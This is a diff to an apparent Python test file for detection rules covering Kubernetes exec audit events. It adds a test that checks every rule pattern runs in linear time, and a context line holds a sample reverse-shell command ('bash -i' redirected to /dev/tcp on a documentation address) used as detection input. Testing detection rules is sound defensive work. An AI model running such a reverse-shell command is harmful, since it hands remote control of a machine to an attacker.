@@ -131,6 +131,37 @@ def test_the_same_rules_read_an_audit_event_of_kubectl_exec(exec_rules: dict):
         "bash -c bash -i >  /dev/tcp/203.0.113.7/4444 0> 1")
 
 
+def test_every_pattern_of_the_exec_rules_runs_in_linear_time_on_re2(exec_rules: dict):
+    # The exec command is the requester's text: a backtracking engine could be made to spin on it.
+    from gatewatch.esql import ast
+    from gatewatch.esql.grok import compile_grok
+    from gatewatch.esql.regex import compile_regex, is_linear, java_literal, java_regex, lucene_regex_text
+
+    def expressions(node):
+        if isinstance(node, tuple):
+            for item in node:
+                yield from expressions(item)
+        elif hasattr(node, "__dataclass_fields__"):
+            yield node
+            for name in node.__dataclass_fields__:
+                yield from expressions(getattr(node, name))
+
+    checked = 0
+    for rule in exec_rules.values():
+        for node in expressions(rule.ast.commands):
+            if isinstance(node, ast.Like) and node.regex:
+                assert all(is_linear(compile_regex(lucene_regex_text(p), dotall=True)) for p in node.patterns)
+                checked += 1
+            elif isinstance(node, ast.Grok):
+                assert is_linear(compile_grok(node.patterns[0]).regex)
+                checked += 1
+            elif isinstance(node, ast.Call) and node.name == "replace":
+                pattern = node.args[1].value
+                assert java_literal(pattern) is not None or is_linear(java_regex(pattern))
+                checked += 1
+    assert checked >= 4 * 5
+
+
 def test_requirements_let_the_rule_index_skip_what_cannot_match(exec_rules: dict):
     from gatewatch.prefilter import RuleIndex
 
